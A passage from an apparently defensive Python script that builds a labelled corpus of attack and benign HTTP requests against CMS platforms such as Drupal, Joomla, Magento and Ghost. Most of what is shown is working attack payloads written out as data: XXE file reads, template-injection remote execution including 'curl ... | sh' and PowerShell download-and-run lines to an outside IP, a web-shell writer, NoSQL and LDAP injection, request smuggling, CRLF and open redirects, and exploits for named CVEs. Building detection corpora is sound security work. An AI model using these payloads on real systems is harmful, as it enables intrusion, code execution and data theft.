      '<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE T3RecordDocument [<!ENTITY ent SYSTEM "file:///var/www/html/typo3conf/LocalConfiguration.php">]>\n<T3RecordDocument type="array"><header><meta><title>&ent;</title></meta></header></T3RecordDocument>')
    A(c, S, "umbraco_package", "POST", "/umbraco/backoffice/UmbracoApi/PackageInstall/Import", ah(host("umbraco"), "text/xml", cookie=ck_umbraco()),
      '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]><umbPackage><info><package><name>&lol4;</name></package></info></umbPackage>')
    A(c, S, "sitemap_xinclude", "POST", "/admin/config/search/xmlsitemap/import", ah(host("drupal"), "application/xml", cookie=ck_drupal()),
      '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9" xmlns:xi="http://www.w3.org/2001/XInclude"><url><loc><xi:include href="file:///etc/hostname" parse="text"/></loc></url></urlset>')
    A(c, S, "xmlrpc_joomla", "POST", "/xmlrpc/index.php", ah(host("joomla"), "text/xml"),
      '<?xml version="1.0"?>\n<!DOCTYPE methodCall [<!ENTITY % dtd SYSTEM "https://c3vq8k2j.oast.fun/ev.dtd"> %dtd;]>\n<methodCall><methodName>blogger.getUsersBlogs</methodName><params><param><value>&send;</value></param></params></methodCall>')


# ---------------------------------------------------------------- SSTI

def attacks_ssti(c):
    S = "ssti"
    mh = host("magento")
    addr = lambda fn: jdump({"addressInformation": {"shipping_address": {"firstname": fn, "lastname": "Doe", "street": ["1 Main St"], "city": "Austin", "region_id": 57, "country_id": "US",
                                                                         "postcode": "78701", "telephone": "5125550100", "email": "jd@mailinator.com"}, "shipping_method_code": "flatrate", "shipping_carrier_code": "flatrate"}})
    A(c, S, "magento_cve_2022_24086", "POST", "/rest/default/V1/guest-carts/%s/shipping-information" % tok(32), ah(mh, "application/json", accept="*/*"),
      addr("{{var this.getTemplateFilter().addAfterFilter(system)}}{{var this.getTemplateFilter().filter(id)}}"))
    A(c, S, "magento_cve_2022_24086", "POST", "/rest/V1/guest-carts/%s/shipping-information" % tok(32), ah(host("magento"), "application/json", accept="*/*"),
      addr("{{var this.getTemplateFilter().filter(order)}}{{trans \"%1\" var=this.getTemplateFilter().addAfterFilter(\"passthru\")}}"))
    A(c, S, "magento_email_template", "POST", "/admin/admin/email_template/save/key/%s/" % hexs(64), ah(host("magento"), FORM, cookie="admin=" + tok(26, "abcdefghijklmnopqrstuv0123456789")),
      form([("template_code", "order_new"), ("template_subject", "Your order"), ("template_text", "{{block class='Magento\\Framework\\View\\Element\\Template' area='frontend' template='../../../../../../app/etc/env.php'}}"), ("form_key", tok(16))]))
    ch = host("craft")
    A(c, S, "craft_twig", "POST", "/", ah(ch, FORM, cookie=ck_craft()),
      form([("CRAFT_CSRF_TOKEN", hexs(64)), ("action", "entries/save-entry"), ("sectionId", "2"), ("title", "x"), ("fields[summary]", "{{ ['id']|filter('system') }}")]))
    A(c, S, "craft_twig", "POST", "/admin/seomatic/global/general", ah(host("craft"), FORM, cookie=ck_craft()),
      form([("CRAFT_CSRF_TOKEN", hexs(64)), ("action", "seomatic/settings/save-global"), ("metaGlobalVars[seoTitle]", "{{ ['cat /etc/passwd']|map('passthru')|join }}")]))
    A(c, S, "craft_twig", "GET", "/actions/seomatic/meta-container/all-meta-containers?uri=" + qpct("{{craft.app.config.db.password}}{{7*'7'}}"), ah(host("craft"), accept=ACCEPT_JSON))
    A(c, S, "twig_register_callback", "POST", "/admin/structure/views/nojs/handler/content/page_1/field/title", ah(host("drupal"), FORM, cookie=ck_drupal()),
      form([("options[alter][alter_text]", "1"), ("options[alter][text]", "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}"),
            ("form_build_id", form_build_id()), ("form_token", form_token()), ("form_id", "views_ui_config_item_form"), ("op", "Apply")]))
    A(c, S, "twig_webform_email", "POST", "/admin/structure/webform/manage/contact/handlers/email_confirmation/edit", ah(host("drupal"), FORM, cookie=ck_drupal()),
      form([("settings[body]", "twig"), ("settings[body_custom_twig]", "{% set cmd = 'curl -s http://45.95.147.12/t|sh' %}{{ {0:cmd}|sort('system') }}"),
            ("form_build_id", form_build_id()), ("form_token", form_token()), ("form_id", "webform_handler_form"), ("op", "Save")]))
    A(c, S, "liquid_review", "POST", "/apps/reviews/submit?shop=acme-outfitters.myshopify.com&timestamp=1717000000&signature=" + hexs(64), [["Host", host("shopify")], ["User-Agent", "Shopify Proxy"], ["Accept", "application/json"], ["Content-Type", "application/json"]],
      jdump({"product_id": 7812000000001, "rating": 5, "author": "x", "body": "{% include '../../../../../../etc/passwd' %}{{ shop.metafields | json }}"}))
    A(c, S, "liquid_theme_asset", "PUT", "/admin/api/2024-04/themes/%d/assets.json" % R.randint(100000000, 999999999), ah(host("shopify"), "application/json", accept=ACCEPT_JSON, extra=[["X-Shopify-Access-Token", "shpat_" + hexs(32)]]),
      jdump({"asset": {"key": "snippets/footer.liquid", "value": "{%- capture x -%}{{ settings | json }}{%- endcapture -%}{% render 'x', leak: customer.addresses %}{{ 'x' | asset_url | replace: 'x', request.headers }}"}}))
    hbs = ("{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}"
           "{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return require('child_process').execSync('id');\"}}{{this.pop}}"
           "{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}")
    A(c, S, "handlebars_ghost", "PUT", "/ghost/api/admin/settings/", ah(host("ghost"), "application/json", accept=ACCEPT_JSON, cookie=ck_ghost()),
      jdump({"settings": [{"key": "codeinjection_foot", "value": hbs}]}))
    A(c, S, "handlebars_email", "POST", "/api/email-templates", ah(host("node"), "application/json", accept=ACCEPT_JSON, extra=[["Authorization", "Bearer " + jwt_like()]]),
      jdump({"name": "welcome", "subject": "Hi {{name}}", "html": "{{#with this as |o|}}{{o.constructor.constructor \"return process.mainModule.require('child_process').execSync('cat /etc/passwd')\"}}{{/with}}"}))
    A(c, S, "strapi_email_template", "PUT", "/users-permissions/email-templates", ah(host("strapi"), "application/json", accept=ACCEPT_JSON, extra=[["Authorization", "Bearer " + jwt_like()]]),
      jdump({"email-templates": {"email_confirmation": {"display": "Email.template.email_confirmation", "icon": "check-square", "options": {"from": {"name": "Admin", "email": "no-reply@strapi.io"},
                                                                                                                                         "response_email": "", "object": "Account confirmation",
                                                                                                                                         "message": "<p>Thanks</p><%= `${ process.binding(\"spawn_sync\").spawn({\"file\":\"/bin/sh\",\"args\":[\"/bin/sh\",\"-c\",\"id > /tmp/pwned\"],\"stdio\":[{\"readable\":1,\"writable\":1,\"type\":\"pipe\"}]}).output }` %>"}}}}))
    A(c, S, "freemarker_magnolia", "POST", "/.magnolia/admincentral/templates/save", ah(host("aem"), FORM),
      form([("templateScript", '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}'), ("name", "footer")]))
    A(c, S, "freemarker_liferay", "POST", "/api/jsonws/ddm.ddmtemplate/update-template", ah(host("liferay"), FORM, accept=ACCEPT_JSON),
      form([("templateId", "40921"), ("script", '${"freemarker.template.utility.Execute"?new()("cat /etc/passwd")}'), ("language", "ftl"), ("p_auth", tok(8))]))
    A(c, S, "velocity_liferay", "POST", "/api/jsonws/ddm.ddmtemplate/update-template", ah(host("liferay"), FORM, accept=ACCEPT_JSON),
      form([("templateId", "40922"), ("script", '#set($e="e")$e.getClass().forName("java.lang.Runtime").getMethod("getRuntime",null).invoke(null,null).exec("id")'), ("language", "vm"), ("p_auth", tok(8))]))
    A(c, S, "razor_umbraco", "POST", "/umbraco/backoffice/UmbracoApi/Template/PostSave", ah(host("umbraco"), "application/json", accept=ACCEPT_JSON, cookie=ck_umbraco()),
      jdump({"id": 1061, "name": "Home", "alias": "home", "content": "@{ System.Diagnostics.Process.Start(\"cmd.exe\", \"/c powershell -c iwr http://45.95.147.12/a.ps1 | iex\"); }\n<h1>@Model.Name</h1>"}))
    A(c, S, "smarty_cmsms", "POST", "/admin/editcontent.php", ah(host("concrete"), FORM),
      form([("content_en", "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['cmd']); ?>\",self::clearConfig())}"), ("title", "Home"), ("submit", "Submit")]))
    A(c, S, "smarty_cmsms", "GET", "/index.php?page=contact&mact=News,cntnt01,default,0&cntnt01summarytemplate={system('id')}", ah(host("concrete")))
    A(c, S, "jinja_wagtail", "POST", "/admin/forms/submissions/contact/", ah(host("node"), FORM),
      form([("subject", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"), ("message", "hello")]))
    A(c, S, "jinja_wagtail", "GET", "/search/?query=" + qpct("{{request.application.__globals__.__builtins__.__import__('os').popen('cat /etc/passwd').read()}}"), ah(host("node")))
    A(c, S, "ssti_probe", "GET", "/index.php?option=com_finder&view=search&q=%7B%7B7*7%7D%7D%24%7B7*7%7D%3C%25%3D7*7%25%3E%23%7B7*7%7D", ah(host("joomla")))


# ---------------------------------------------------------------- NoSQL / filter-operator abuse

def attacks_nosqli(c):
    S = "nosqli"
    sh = host("strapi")
    A(c, S, "strapi_cve_2023_22894", "GET", "/api/articles?filters[updatedBy][password][$startsWith]=$2a$10$&fields[0]=title", ah(sh, accept=ACCEPT_JSON))
    A(c, S, "strapi_cve_2023_22894", "GET", "/content-manager/collection-types/api::article.article?filters%5B%24and%5D%5B0%5D%5BcreatedBy%5D%5BresetPasswordToken%5D%5B%24startsWith%5D=a&page=1&pageSize=1",
      ah(host("strapi"), accept=ACCEPT_JSON, extra=[["Authorization", "Bearer " + jwt_like()]]))
    A(c, S, "strapi_relation_leak", "GET", "/api/comments?filters[author][email][$containsi]=@&filters[author][password][$notNull]=true&populate[author][fields][0]=password", ah(host("strapi"), accept=ACCEPT_JSON))
    A(c, S, "directus_relation_leak", "GET", "/items/articles?filter[user_created][password][_starts_with]=%24argon2id&fields=title,user_created.email", ah(host("directus"), accept=ACCEPT_JSON))
    A(c, S, "payload_where", "GET", "/api/users?where[or][0][resetPasswordToken][exists]=true&where[or][1][email][like]=admin&depth=0", ah(host("node"), accept=ACCEPT_JSON))
    A(c, S, "mongo_login", "POST", "/api/v1/login", ah(host("node"), "application/json", accept=ACCEPT_JSON), jdump({"username": "admin", "password": {"$ne": None}}))
    A(c, S, "mongo_login", "POST", "/login", ah(host("node"), FORM), "username%5B%24regex%5D=%5Eadm&password%5B%24ne%5D=x&csrf=" + tok(36, B64URL))
    A(c, S, "mongo_login", "POST", "/keystone/api/session/signin", ah(host("node"), "application/json", accept=ACCEPT_JSON), jdump({"email": {"$gt": ""}, "password": {"$gt": ""}}))
    A(c, S, "mongo_where", "POST", "/api/v1/articles/search", ah(host("node"), "application/json", accept=ACCEPT_JSON), jdump({"filter": {"$where": "sleep(5000) || this.type == 'article'"}}))
    A(c, S, "mongo_unicode", "POST", "/api/v1/login", ah(host("node"), "application/json", accept=ACCEPT_JSON), '{"username":"admin","password":{"\\u0024gt":""}}')
    A(c, S, "groq_injection", "GET", "/v2021-10-21/data/query/production?query=" + qp('*[_type == "post" && slug.current == "x"] || *[_type == "sanity.imageAsset" || _type == "system.user"]{email, password, token}'),
      [["Host", "%s.api.sanity.io" % tok(8, "abcdefghijklmnopqrstuvwxyz0123456789")], ["User-Agent", aua()], ["Accept", "application/json"]])


# ---------------------------------------------------------------- LDAP (directory-backed CMS logins)

def attacks_ldap(c):
    S = "ldap"
    A(c, S, "drupal_ldap_login", "POST", "/user/login", ah(host("drupal"), FORM), form([("name", "*)(uid=*))(|(uid=*"), ("pass", "x"), ("form_id", "user_login_form"), ("op", "Log in")]))
    A(c, S, "joomla_ldap_login", "POST", "/index.php?option=com_users&task=user.login", ah(host("joomla"), FORM), form([("username", "admin)(|(password=*))"), ("password", "x"), (hexs(32), "1")]))
    A(c, S, "typo3_ldap_login", "POST", "/typo3/login", ah(host("typo3"), FORM), "username=%2a%29%28%7c%28cn%3d%2a&userident=x&login_status=login")
    A(c, S, "sitecore_ad_login", "POST", "/sitecore/login", ah(host("sitecore"), FORM), form([("UserName", "admin*)((|userPassword=*)"), ("Password", "x"), ("ActionLogin", "Log in")]))
    A(c, S, "umbraco_member_lookup", "GET", "/umbraco/api/members/lookup?name=*)(objectClass=*", ah(host("umbraco"), accept=ACCEPT_JSON))
    A(c, S, "liferay_ldap", "POST", "/c/portal/login", ah(host("liferay"), FORM), form([("login", "jdoe)(&(objectClass=user)(memberOf=CN=Domain Admins,CN=Users,DC=corp,DC=local))"), ("password", "x")]))


# ---------------------------------------------------------------- CRLF / header injection

def attacks_crlf(c):
    S = "crlf"
    A(c, S, "drupal_destination", "GET", "/user/login?destination=/node%0d%0aSet-Cookie:%20SSESSfixation=attacker;%20path=/", ah(host("drupal")))
    A(c, S, "joomla_return", "GET", "/index.php?option=com_users&task=user.logout&return=%0D%0ALocation:%20https://evil.example/joomla-login", ah(host("joomla")))
    A(c, S, "typo3_redirect_url", "GET", "/?redirect_url=%0D%0AContent-Length:%200%0D%0A%0D%0AHTTP/1.1%20200%20OK%0D%0AContent-Type:%20text/html%0D%0A%0D%0A%3Cscript%3Ealert(1)%3C/script%3E", ah(host("typo3")))
    A(c, S, "craft_redirect", "GET", "/actions/users/logout?redirect=/%E5%98%8A%E5%98%8DSet-Cookie:crlf=injection", ah(host("craft")))
    A(c, S, "magento_referer_param", "GET", "/customer/account/login/referer/%0d%0aX-Injected:%20header/", ah(host("magento")))
    A(c, S, "ghost_members_r", "GET", "/members/?token=%s&action=signup&r=%%0aLocation%%3a%%20https%%3a%%2f%%2fevil.example%%2f" % tok(32, B64URL), ah(host("ghost")))
    A(c, S, "redirect_manager", "POST", "/admin/config/search/redirect/add", ah(host("drupal"), FORM, cookie=ck_drupal()),
      form([("redirect_source[0][path]", "promo"), ("redirect_redirect[0][uri]", "/sale\r\nSet-Cookie: SSESSadmin=x"), ("status_code", "301"), ("form_build_id", form_build_id()),
            ("form_token", form_token()), ("form_id", "redirect_redirect_form"), ("op", "Save")]))
    A(c, S, "umbraco_returnurl", "GET", "/umbraco/surface/LoginSurface/Logout?returnUrl=%250d%250aRefresh:%25200;url=https://evil.example/", ah(host("umbraco")))


# ---------------------------------------------------------------- protocol: smuggling and header abuse

def attacks_protocol(c):
    S = "protocol"
    h = host("drupal")
    AR(c, S, "cl_te", None, None, None, raw_head=("POST /node HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG" % (h, aua())).encode())
    h = host("magento")
    smug = "GET /admin/ HTTP/1.1\r\nHost: %s\r\nX-Ignore: X" % h
    AR(c, S, "te_cl", None, None, None, raw_head=("POST /checkout/cart/ HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n%x\r\n%s\r\n0\r\n\r\n" % (h, aua(), len(smug), smug)).encode())
    h = host("joomla")
    AR(c, S, "te_obfuscated", None, None, None, raw_head=("POST /index.php HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 52\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\nGET /administrator/ HTTP/1.1\r\nX-Foo: bar\r\n\r\n" % (h, aua())).encode())
    h = host("craft")
    AR(c, S, "te_obfuscated", None, None, None, raw_head=("POST / HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nContent-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding : chunked\r\nContent-Length: 4\r\n\r\n1\r\nZ\r\nQ\r\n\r\n" % (h, aua())).encode())
    h = host("ghost")
    AR(c, S, "te_duplicate", None, None, None, raw_head=("POST /members/api/send-magic-link/ HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\nContent-Length: 6\r\n\r\n0\r\n\r\nX" % (h, aua())).encode())
    h = host("typo3")
    AR(c, S, "cl_duplicate", None, None, None, raw_head=("POST /index.php?id=1 HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 8\r\nContent-Length: 47\r\n\r\nx=1&y=2\nGET /typo3/ HTTP/1.1\r\nHost: localhost\r\n\r\n" % (h, aua())).encode())
    h = host("umbraco")
    AR(c, S, "te_tab", None, None, None, raw_head=("POST /umbraco/surface/ContactSurface/Submit HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 3\r\nTransfer-Encoding:\tchunked\r\n\r\n8\r\nSMUGGLED\r\n0\r\n\r\n" % (h, aua())).encode())
    h = host("drupal")
    A(c, S, "x_original_url", "GET", "/?q=node", ah(h, extra=[["X-Original-URL", "/admin/people/create"]]))
    A(c, S, "x_rewrite_url", "GET", "/", ah(host("drupal"), extra=[["X-Rewrite-URL", "/user/1/edit?pass[pass1]=x&pass[pass2]=x"]]))
    A(c, S, "host_poisoning_reset", "POST", "/user/password", ah(host("drupal"), FORM, extra=[["X-Forwarded-Host", "evil-cdn.net"], ["X-Host", "evil-cdn.net"]]),
      form([("name", "admin"), ("form_build_id", form_build_id()), ("form_id", "user_pass"), ("op", "Submit")]))
    h = host("sitecore")
    A(c, S, "range_overflow", "GET", "/-/media/project/globalinsure/hero.jpg", ah(h, accept=ACCEPT_IMG, extra=[["Range", "bytes=0-18446744073709551615"]]))
    h = host("magento")
    ebcdic = "email=x%40x.com%27%3Bselect+sleep(5)".encode("cp037")
    AR(c, S, "charset_ibm037", "POST", "/newsletter/subscriber/new/", ah(h, "application/x-www-form-urlencoded; charset=ibm037"), ebcdic)
    h = host("concrete")
    AR(c, S, "header_null_byte", None, None, None, raw_head=("GET /index.php/dashboard HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nX-Forwarded-For: 127.0.0.1\x00evil\r\nAccept: */*\r\n\r\n" % (h, aua())).encode())
    h = host("directus")
    AR(c, S, "obs_fold", None, None, None, raw_head=("GET /server/info HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nX-Forwarded-For: 8.8.8.8\r\n Transfer-Encoding: chunked\r\nAccept: */*\r\n\r\n" % (h, aua())).encode())


# ---------------------------------------------------------------- scanners and probes

def attacks_scanner(c):
    S = "scanner"
    nuclei = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.124 Safari/537.36"
    probes = [
        ("nuclei", host("joomla"), "/api/index.php/v1/config/application?public=true", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"),
        ("nuclei", host("magento"), "/magento_version", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"),
        ("wpscan_like", host("drupal"), "/wp-login.php", "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)"),
        ("nikto", host("typo3"), "/typo3conf/LocalConfiguration.php.bak", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:001214)"),
        ("sqlmap", host("joomla"), "/index.php?option=com_content&view=article&id=1%20AND%201%3D1", "sqlmap/1.8.3#stable (https://sqlmap.org)"),
        ("cmseek", host("drupal"), "/core/install.php", "CMSeeK/1.1.3 (https://github.com/Tuhinshubhra/CMSeeK)"),
        ("whatweb", host("concrete"), "/concrete/config/version.php", "WhatWeb/0.5.5"),
        ("dirbuster", host("umbraco"), "/umbraco/webservices/codeEditorSave.asmx", "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)"),
        ("ffuf", host("craft"), "/.env", "Fuzz Faster U Fool v2.1.0-dev"),
        ("gobuster", host("strapi"), "/admin/init", "gobuster/3.6"),
        ("feroxbuster", host("ghost"), "/ghost/api/admin/site/", "feroxbuster/2.10.3"),
        ("nmap", host("sitecore"), "/sitecore/admin/showconfig.aspx", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"),
        ("acunetix", host("magento"), "/app/etc/local.xml", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/110.0.0.0 Safari/537.36 acunetix-wvs"),
        ("zgrab", host("drupal"), "/CHANGELOG.txt", "Mozilla/5.0 zgrab/0.x"),
        ("masscan", host("joomla"), "/administrator/manifests/files/joomla.xml", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)"),
        ("wfuzz", host("directus"), "/server/specs/oas", "Wfuzz/3.1.0"),
    ]
    for sub, h, path, ua in probes:
        A(c, S, sub, "GET", path, [["Host", h], ["User-Agent", ua], ["Accept", "*/*"], ["Connection", "close"]])
    # droopescan / joomscan style enumeration with browser-like UA but scanner fingerprints
    A(c, S, "droopescan", "GET", "/sites/all/modules/views/README.txt", [["Host", host("drupal")], ["User-Agent", "python-requests/2.31.0"], ["Accept", "*/*"], ["Accept-Encoding", "gzip, deflate"], ["Connection", "keep-alive"]])
    A(c, S, "joomscan", "GET", "/administrator/components/com_admin/sql/updates/mysql/", [["Host", host("joomla")], ["User-Agent", "Mozilla/5.0 (compatible; Joomscan by OWASP)"], ["Accept", "*/*"]])
    A(c, S, "nuclei_template", "GET", "/index.php?option=com_fields&view=fields&layout=modal&list[fullordering]=updatexml(0x23,concat(1,md5(999999999)),1)",
      [["Host", host("joomla")], ["User-Agent", nuclei], ["Accept", "*/*"], ["Accept-Encoding", "gzip"]])
    A(c, S, "interactsh_probe", "GET", "/ghost/api/admin/oembed/?url=http%%3A%%2F%%2F%s.oast.pro&type=embed" % tok(20, "abcdefghijklmnopqrstuvwxyz0123456789"), [["Host", host("ghost")], ["User-Agent", nuclei], ["Accept", "*/*"]])


# ---------------------------------------------------------------- generic: open redirects, prototype pollution, mass assignment, auth bypass

def attacks_generic(c):
    S = "generic"
    A(c, S, "open_redirect", "GET", "/user/login?destination=https://evil-login.example/drupal/", ah(host("drupal")))
    A(c, S, "open_redirect", "GET", "/user/logout?destination=//evil-login.example/%2F..", ah(host("drupal")))
    A(c, S, "open_redirect", "GET", "/user/login?destination=/%5Cevil-login.example", ah(host("drupal")))
    A(c, S, "open_redirect", "GET", "/index.php?option=com_users&view=login&return=" + base64.b64encode(b"https://evil-login.example/joomla/administrator/").decode(), ah(host("joomla")))
    A(c, S, "open_redirect", "GET", "/customer/account/loginPost/referer/" + base64.urlsafe_b64encode(b"https://evil-login.example/checkout").decode().replace("=", ",") + "/", ah(host("magento")))
    A(c, S, "open_redirect", "GET", "/?redirect_url=https:%2F%2Fevil-login.example%2Ftypo3", ah(host("typo3")))
    A(c, S, "open_redirect", "GET", "/account/login?return_url=https%3A%2F%2Fevil-login.example%252F%252Fshop&checkout_url=%2F%2Fevil-login.example", ah(host("shopify")))
    A(c, S, "open_redirect", "GET", "/members/api/member/?r=https%3A%2F%2Fevil-login.example%2Fghost", ah(host("ghost")))
    A(c, S, "prototype_pollution", "POST", "/api/articles", ah(host("strapi"), "application/json", accept=ACCEPT_JSON, extra=[["Authorization", "Bearer " + tok(200, "abcdef0123456789")]]),
      '{"data":{"title":"x","__proto__":{"isAdmin":true,"roles":["strapi-super-admin"]}}}')
    A(c, S, "prototype_pollution", "GET", "/items/articles?constructor[prototype][admin_access]=true&fields=*", ah(host("directus"), accept=ACCEPT_JSON))
    A(c, S, "prototype_pollution", "PUT", "/ghost/api/admin/users/%s/" % hexs(24), ah(host("ghost"), "application/json", accept=ACCEPT_JSON, cookie=ck_ghost()),
      '{"users":[{"name":"x","constructor":{"prototype":{"role":"Owner"}}}]}')
    A(c, S, "mass_assignment", "PATCH", "/users/me", ah(host("directus"), "application/json", accept=ACCEPT_JSON, extra=[["Authorization", "Bearer " + tok(32, B64URL)]]),
      jdump({"first_name": "x", "role": "0f3b1a2c-6d7e-4f80-9a1b-2c3d4e5f6a7b", "admin_access": True, "app_access": True}))
    A(c, S, "jwt_alg_none", "GET", "/rest/V1/customers/me", ah(host("magento"), accept=ACCEPT_JSON, extra=[["Authorization", "Bearer eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.eyJ1aWQiOjEsInV0eXBpZCI6MiwiaWF0IjoxNzE3MDAwMDAwLCJleHAiOjE5MTcwMDAwMDB9."]]))
    A(c, S, "joomla_cve_2023_23752", "GET", "/api/index.php/v1/users?public=true", ah(host("joomla"), accept="application/vnd.api+json"))


ATTACK_PLAN = [attacks_sqli, attacks_xss, attacks_lfi, attacks_rfi, attacks_rce, attacks_php, attacks_java, attacks_ssrf, attacks_xxe, attacks_ssti,
               attacks_nosqli, attacks_ldap, attacks_crlf, attacks_protocol, attacks_scanner, attacks_generic]


def build_attacks():
    R.seed(SEED + 2)
    c = Corpus()
    for fn in ATTACK_PLAN:
        fn(c)
    return c


def main(argv):
    mode = argv[1] if len(argv) > 1 else "stats"
    if mode in ("attacks", "benign"):
        c = build_attacks() if mode == "attacks" else build_benign()
        out = sys.stdout
        for item in c.items:
            out.write(json.dumps(item, ensure_ascii=False) + "\n")
        return 0
    if mode == "stats":
        for name, c in (("attacks", build_attacks()), ("benign", build_benign())):
            cats = {}
            subs = {}
            for it in c.items:
                cats[it["category"]] = cats.get(it["category"], 0) + 1
                sub = it["id"].split("/")[2].rsplit("-", 1)[0]
                subs[(it["category"], sub)] = subs.get((it["category"], sub), 0) + 1
            raw = sum(1 for it in c.items if "raw_b64" in it)
            print("%s: %d requests (%d raw_b64, %d duplicate draws skipped)" % (name, len(c.items), raw, c.dups))
            for k in sorted(cats):
                print("  %-12s %4d" % (k, cats[k]))
            print("  subgroups: " + ", ".join("%s/%s=%d" % (k[0], k[1], v) for k, v in sorted(subs.items())))
        return 0
    sys.stderr.write("usage: corpus-cms.py attacks|benign|stats\n")
    return 2


if __name__ == "__main__":
    sys.exit(main(sys.argv))
